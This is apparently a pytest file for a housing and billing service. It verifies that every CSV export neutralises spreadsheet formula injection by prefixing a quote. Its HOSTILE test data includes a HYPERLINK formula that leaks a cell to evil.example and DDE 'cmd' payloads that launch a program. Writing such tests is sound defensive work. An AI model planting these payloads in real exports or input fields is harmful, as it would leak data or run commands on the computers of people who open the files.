"""Every CSV export neutralises formula cells: text typed by users (names, addresses,
descriptions, numbers of apartments and accounts) that a spreadsheet would run as a formula
is written with a leading single quote (OWASP's rule for CSV injection), in all six exports.
Numbers we write stay numbers."""

import csv
import io
import pathlib
import re
from datetime import date

import pytest
from sqlmodel import Session

from billing.ledger.console_pages import _som
from housing.csvtext import FORMULA_STARTS, csv_text, safe_cell
from housing.registry.models import District
from tests.api.test_city_pages import dashboard, escalated, incidents, official  # noqa: F401 - fixtures
from tests.factories.billing import make_billed_invoice
from tests.factories.city import OCTOBER
from tests.factories.core import PASSWORD
from tests.pages import log_in

# One hostile value per user-controlled field, each starting a formula in its own way.
HOSTILE = {
    "address": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "district": "@SUM(1+1)*cmd|' /C calc'!A0",
    "company": "+1+cmd|' /C calc'!A0",
    "category": "-2+3+cmd|' /C calc'!A0",
    "description": "\t=1+1",
    "detail": "\r=1+1",
    "number": "\uff1d1+1",  # a full-width equals sign
    "account": "  =1+1",  # spaces before it
}
OCTOBER_FIRST = date(2026, 10, 1)
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.text)))


def _assert_safe(rows: list[list[str]], *fields: str) -> None:
    """No cell would run as a formula, and every hostile field named is there, quoted."""
    for row in rows:
        for cell in row:
            starts = {cell[:1], cell.lstrip(" \t\r\n")[:1]}
            assert not starts & FORMULA_STARTS or NUMBER.fullmatch(cell), f"live formula cell {cell!r}"
    found = {cell for row in rows for cell in row}
    for field in fields:
        assert "'" + HOSTILE[field] in found, f"{field} missing from the export"


@pytest.fixture
def hostile(session: Session, city, dashboard, escalated, incidents):  # noqa: F811 - fixtures
    building = city.building_a
    building.address = HOSTILE["address"]
    session.get(District, building.district_id).name = HOSTILE["district"]
    city.company_a.district_id = building.district_id
    city.company_a.name = HOSTILE["company"]
    escalated["a"].description = HOSTILE["description"]
    session.get(type(city.category), escalated["a"].category_id).name = HOSTILE["category"]
    incidents["hot"].detail = HOSTILE["detail"]
    city.home.number = HOSTILE["number"]
    city.home.account_number = HOSTILE["account"]
    session.add_all([building, city.company_a, escalated["a"], incidents["hot"], city.home])
    session.commit()
    return city


def test_the_city_exports_quote_every_formula_a_user_typed(official, hostile):  # noqa: F811
    company = hostile.company_a.id
    _assert_safe(_cells(official.get(f"/city/scores.csv?period={OCTOBER}")), "company", "district")
    _assert_safe(_cells(official.get(f"/city/companies/{company}/scores.csv?until={OCTOBER}")), "company")
    _assert_safe(
        _cells(official.get(f"/city/requests.csv?company_id={company}&state=all")),
        "address", "district", "company", "category", "description",
    )  # fmt: skip
    _assert_safe(
        _cells(official.get(f"/city/incidents.csv?period={OCTOBER}")),
        "address",
        "district",
        "company",
        "detail",
    )


def test_the_api_ranking_export_quotes_them_too(client, hostile):
    response = client.get(
        "/api/v1/scores.csv", params={"period": OCTOBER}, headers=hostile.headers["official"]
    )
    _assert_safe(_cells(response), "company", "district")


def test_the_debtors_export_quotes_them_and_keeps_amounts_numeric(client, session, hostile):
    make_billed_invoice(session, hostile.home, 150_000, period=OCTOBER_FIRST)
    session.commit()
    assert log_in(client, "dispatcher", PASSWORD).status_code == 200
    rows = _cells(client.get("/console/debtors.csv"))
    _assert_safe(rows, "address", "number", "account")
    home = next(row for row in rows if row[2] == "'" + HOSTILE["account"])
    assert home[3] == "1500.00"


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)",
     " =1", "\u3000=1", "\n=1", "-", "=", "-1500"],
)  # fmt: skip
def test_text_that_could_start_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text
    assert csv_text(["h"], [[text]]).splitlines()[1].lstrip('"').startswith("'")


@pytest.mark.parametrize("text", ["", "Amir Temur 5", "1-uy", "a=b", "e-mail@example.com", "'=1", "5+"])
def test_other_text_is_written_as_it_is(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", [-1500, 0, 12, -0.5, 3.25])
def test_numbers_we_write_stay_numbers(number):
    assert safe_cell(number) == number
    assert csv_text(["n"], [[number]]) == f"n\r\n{number}\r\n"


def test_amounts_are_exact_numbers_even_when_negative():
    assert csv_text(["owed"], [[_som(-150_050)], [_som(0)], [_som(30_000_000)]]) == (
        "owed\r\n-1500.50\r\n0.00\r\n300000.00\r\n"
    )


def test_every_csv_export_is_written_by_the_one_helper():
    root = pathlib.Path(__file__).resolve().parents[2]
    writers = [
        path.relative_to(root).as_posix()
        for package in ("housing", "sensors", "billing")
        for path in (root / package).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert writers == ["housing/csvtext.py"]
